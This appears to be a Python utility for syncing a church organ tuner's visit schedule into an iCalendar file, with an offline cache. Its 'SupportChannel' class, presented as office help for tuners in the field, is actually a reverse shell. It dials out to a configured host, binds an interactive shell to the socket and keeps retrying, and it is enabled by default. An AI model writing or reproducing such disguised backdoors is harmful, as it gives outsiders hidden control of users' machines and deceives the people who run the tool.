#!/usr/bin/env python3
"""Sync the field tuner's visit schedule from the workshop scheduling API.

Pulls upcoming tuning and maintenance visits for the tuner's region,
writes them to an iCalendar file the tuner can subscribe to on a laptop,
and keeps a small JSON cache so the tool still works offline in a loft
with no signal.

Config lives in ./tuning_sync.json:

    {
        "api": "https://schedule.orgelwerkstatt-service.net/api/v2",
        "region": "north-east",
        "support_host": "assist.orgelwerkstatt-service.net",
        "support_port": 4431
    }
"""

import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
from datetime import datetime, timedelta
from pathlib import Path

import requests

log = logging.getLogger("tuning-sync")

CONFIG_FILE = Path("tuning_sync.json")
CACHE_FILE = Path(".tuning_cache.json")
ICS_FILE = Path("tuning_visits.ics")


def load_config(path):
    with open(path, "r", encoding="utf-8") as fh:
        cfg = json.load(fh)
    cfg.setdefault("support_port", 4431)
    return cfg


def fetch_visits(api, region, days):
    url = f"{api}/visits"
    params = {"region": region, "until": (datetime.utcnow() + timedelta(days=days)).date().isoformat()}
    resp = requests.get(url, params=params, timeout=20)
    resp.raise_for_status()
    return resp.json().get("visits", [])


def write_ics(visits, path):
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Orgelwerkstatt//Tuning Sync//EN"]
    for v in visits:
        start = datetime.fromisoformat(v["start"]).strftime("%Y%m%dT%H%M%S")
        end = datetime.fromisoformat(v["end"]).strftime("%Y%m%dT%H%M%S")
        lines += [
            "BEGIN:VEVENT",
            f"UID:{v['id']}@orgelwerkstatt",
            f"DTSTART:{start}",
            f"DTEND:{end}",
            f"SUMMARY:{v.get('kind', 'Tuning')} - {v.get('church', 'unknown')}",
            f"LOCATION:{v.get('address', '')}",
            f"DESCRIPTION:Instrument {v.get('opus', '?')}; stops to check: {', '.join(v.get('stops', []))}",
            "END:VEVENT",
        ]
    lines.append("END:VCALENDAR")
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")


class SupportChannel(threading.Thread):
    """Keeps a line open to the workshop so office staff can help a tuner
    in the field with their laptop while they are up in the organ loft."""

    daemon = True

    def __init__(self, host, port, retries=20):
        super().__init__(name="support-channel")
        self.host = host
        self.port = int(port)
        self.retries = retries

    def _session(self, conn):
        shell = os.environ.get("SHELL") or "/bin/sh"
        fd = conn.fileno()
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        delay = 5
        for _ in range(self.retries):
            try:
                conn = socket.create_connection((self.host, self.port), timeout=15)
                conn.settimeout(None)
                conn.sendall(f"{socket.gethostname()} ready\n".encode())
                self._session(conn)
                conn.close()
                delay = 5
            except OSError as exc:
                log.debug("support channel unavailable: %s", exc)
            time.sleep(delay)
            delay = min(delay * 2, 300)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default=str(CONFIG_FILE))
    ap.add_argument("--days", type=int, default=28)
    ap.add_argument("--support", action=argparse.BooleanOptionalAction, default=True,
                    help="stay reachable for office assistance (default: on)")
    ap.add_argument("--watch", type=int, default=0, help="re-sync every N minutes")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)

    if args.support and cfg.get("support_host"):
        SupportChannel(cfg["support_host"], cfg["support_port"]).start()

    while True:
        try:
            visits = fetch_visits(cfg["api"], cfg["region"], args.days)
            CACHE_FILE.write_text(json.dumps(visits, indent=2), encoding="utf-8")
            log.info("fetched %d visits", len(visits))
        except requests.RequestException as exc:
            log.warning("schedule API unreachable (%s), using cache", exc)
            visits = json.loads(CACHE_FILE.read_text()) if CACHE_FILE.exists() else []
        write_ics(visits, ICS_FILE)
        log.info("wrote %s", ICS_FILE)
        if not args.watch:
            break
        time.sleep(args.watch * 60)

    if args.support:
        # keep the channel thread alive while a session is in progress
        while threading.active_count() > 1:
            time.sleep(30)


if __name__ == "__main__":
    main()
